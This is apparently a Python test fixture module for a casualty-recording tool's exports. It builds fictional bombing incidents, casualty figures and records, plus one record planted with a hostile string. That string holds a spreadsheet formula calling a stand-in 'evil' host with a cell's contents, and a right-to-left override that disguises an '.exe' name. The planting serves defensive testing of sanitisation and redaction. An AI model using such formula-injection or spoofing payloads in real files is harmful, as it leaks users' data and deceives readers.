"""Books and contents for the tests of exports: small ones of a few words, and one with everything planted in it."""

from __future__ import annotations

import datetime as dt
import hashlib
from pathlib import Path
from typing import Any

from book_reports import act, book_of_qasrin, figure, record
from tollbook.book import Book, init_book
from tollbook.export.values import Asked, Claim, Content, Doer, Hit, Incident, Range, Source, Where
from tollbook.redact import INSIDE

NAME = "Mara Vossian"
EVIL = '=HYPERLINK("http://evil/"&A1)\t\u202egnp.exe\u202c\r\nnext \x07line; ' + NAME
"""A formula, a tab, a right-to-left override, a line break, a bell, a semicolon and a person's name."""


def range_of(value: Any) -> Range:
    """12 -> 12 to 12; [3, 7] -> 3 to 7; [3, null] -> at least 3; [null, 20] -> up to 20; a mapping as it stands."""
    if isinstance(value, dict):
        return Range(**{"low": None, "best": None, "high": None, **value})
    if isinstance(value, int):
        return Range(value, value, value, voices=(1, 1))
    low, high = value
    return Range(low, None if low != high else low, low if high is None else high, high is None, (1, 1))


def incident(**told: Any) -> Incident:
    """An incident from a few words: `killed`, `injured` (see range_of), `killed_civilian` and so on, `by`, `hit`."""
    ranges: dict[tuple[str, str], Range] = {}
    for key in [k for k in told if k.split("_")[0] in ("killed", "injured", "missing")]:
        harm, _, group = key.partition("_")
        ranges[harm, group or "all"] = range_of(told.pop(key))
    start = told.pop("start", "2021-03-01")
    values: dict[str, Any] = {
        "id": "00000000000000aa", "type": "bomb", "status": "happened", "scope": "incident", "start": start,
        "end": told.pop("end", start), "precision": "day", "date_basis": "stated", "date_of": "act",
        "places": ("Qasrin", "Marwan"), "country": "IQ", "where": Where(
            "Qasrin", 36.5, 43.25, 4.0, 3, "Marwan", "Qasrin District", "gn:1", 1, 1,
        ),
        "doers": tuple(Doer(n, None, 1, ()) for n in told.pop("by", ())), "doers_are": None,
        "hits": tuple(Hit(n, None, None) for n in told.pop("hit", ())), "means": (), "means_kinds": (), "objects": (),
        "persons": (), "acts": 1, "quote": "A bomb went off in Qasrin.", "contested": False, "recalled": False,
        "wide": False, "grade": "provisional", "review": "machine", "reviewed_by": None, "reviewed_at": None,
        "voices": ("police",), "independent": (1, 1), "sources": ("s1",), "mentions": ("00000000000000aa",),
        "parts": (), "possibly": (), "ranges": ranges,
    }  # fmt: skip
    return Incident(**(values | told))


def claim(words: str, low: int | None, high: int | None, **told: Any) -> Claim:
    """A figure of the killed."""
    values: dict[str, Any] = {
        "id": "c1", "incident": "00000000000000aa", "source": "s1", "harm": "killed", "who": "unknown", "low": low,
        "high": high, "approx": False, "says": None, "voice": "police", "voice_kind": "police", "own": False,
        "subset_of": None, "said": "2021-03-02", "start": 0, "end": 1, "words": words, "quote": words,
        "counts": ("low",),
    }  # fmt: skip
    return Claim(**(values | told))


def content(*incidents: Incident, claims: tuple[Claim, ...] = ()) -> Content:
    """A content of these incidents, as for the analyst's own use."""
    return Content(
        incidents=incidents,
        claims=claims,
        sources=(Source("s1", "one", "Daily A", "2021-03-02", "Blast", None, "0" * 64, "2021-03-03T10:00:00+00:00"),),
        charter={"title": "War of Marwan", "recorders": ["Us"]},
        asked=Asked(rule="latest-per-voice", classes="tollbook", grade="ibc", policy=INSIDE),
        log="[1,1,0]",
        code="0/0",
    )


def planted_record() -> dict[str, Any]:
    """A record with `EVIL` in every text that a record has, and a person told of by name and age."""
    text = f"{EVIL}\n\nA bomb killed at least 5 people, {EVIL} said. 3 teachers were hurt. {NAME}, 34, is dead."
    told = act(
        "a", f"A bomb killed at least 5 people, {EVIL} said.",
        figure("at least 5 people", 5, None, says=EVIL, who="unknown"),
        figure("3 teachers", 3, 3, harm="injured", says=EVIL),
        places=[EVIL, "Marwan"], perpetrators=[EVIL], targets=[EVIL, NAME],
        perpetrators_are="either",
        means=[{"name": EVIL, "kind": "explosive"}], objects=[{"name": EVIL, "kind": "market", "effect": "damaged"}],
        perpetrator_details=[{"name": EVIL, "actor_id": None, "says": EVIL, "basis": "blamed"}],
        place_details=[{
            "name": EVIL, "role": "at", "gazetteer_id": EVIL, "lat": 36.512, "lon": 43.254, "radius_km": 1.5,
            "admin_level": 3, "admin1": EVIL, "admin2": EVIL, "alternatives": [],
        }],
        date={"precision": "day", "basis": "fresh-news", "date_of": "found"},
    )  # fmt: skip
    return {
        "doc_id": EVIL, "published": "2021-03-02", "outlet": EVIL, "url": f"http://x/{EVIL}", "title": EVIL,
        "text": text, "incidents": [told],
        "victims": [{"name": NAME, "age": 34, "sex": "female", "role": EVIL, "incident": "a", "harm": "killed"}],
    }  # fmt: skip


def varied_records() -> list[dict[str, Any]]:
    """What catalogues have trouble with: no day, no figure, no country, many days, an accusation, a statistic ..."""
    acts = [
        ("undated", act("a", "At some time 4 people died.", figure("4 people", 4, 4), start=None, end=None)),
        ("nofigure", act("a", "A road was mined.", places=["Sul"])),
        ("zero", act("a", "No one died in the raid.", figure("No one", 0, 0), places=["Bir"], type="air_strike")),
        ("nocountry", act("a", "A mine killed 2 boys.", figure("2 boys", 2, 2), country=None, places=["Far Field"])),
        ("country", act("a", "Shells killed 6 people in Iraq.", figure("6 people", 6, 6), places=[], type="shelling")),
        (
            "siege",
            act(
                "a", "In five days of fighting 11 soldiers died.", figure("11 soldiers", 11, 11, who="state_forces"),
                end="2021-03-05", places=["Halwa"], type="armed_clash", perpetrators=["Islamic State"],
                targets=["Iraqi army"],
            ),
        ),
        (
            "month",
            act(
                "a", "In May shelling killed up to 30 people.", figure("up to 30 people", None, 30),
                start="2021-05-01", end="2021-05-31", places=["Dera"], type="shelling",
            ),
        ),
        ("alleged", act("a", "They say 9 died.", figure("9", 9, 9, says="rebels"), status="alleged", places=["Nam"])),
        (
            "statistic",
            act("a", "The war killed 900 people in 2020.", figure("900 people", 900, 900), scope="statistic",
                start="2020-01-01", end="2020-12-31"),
        ),
        ("foiled", act("a", "A bomb was defused.", status="thwarted", type="weapons_disrupted", places=["Tal"])),
        ("dozens", act("a", "Dozens of people died.", figure("Dozens of people", 24, None, word="Dozens"),
                       places=["Zab"], start="2021-04-02", end="2021-04-02")),
        ("hurt", act("a", "The blast hurt 8 men.", figure("8 men", 8, 8, harm="injured"), places=["Ram"])),
    ]  # fmt: skip
    out = []
    for doc_id, told in acts:
        out.append(record(doc_id, "2021-06-01", told, text=f"{doc_id}\n\n{told['quote']}", title=doc_id))
    return out


def full_book(path: Path) -> Book:
    """A book with all of it: the bombing of Qasrin, the planted record, what catalogues have trouble with."""
    book = init_book(path, {"title": EVIL, "recorders": [EVIL]})
    reports, records = book_of_qasrin()
    book.add_records(reports, records)
    book.add_records([], [planted_record(), *varied_records()])
    return book


def digest(path: Path) -> str:
    """The bytes of a file, or of all files of a folder."""
    files = sorted(path.iterdir()) if path.is_dir() else [path]
    return hashlib.sha256(b"\0".join(f.read_bytes() for f in files)).hexdigest()


def today() -> dt.date:
    """A day after all reports."""
    return dt.date(2021, 7, 1)
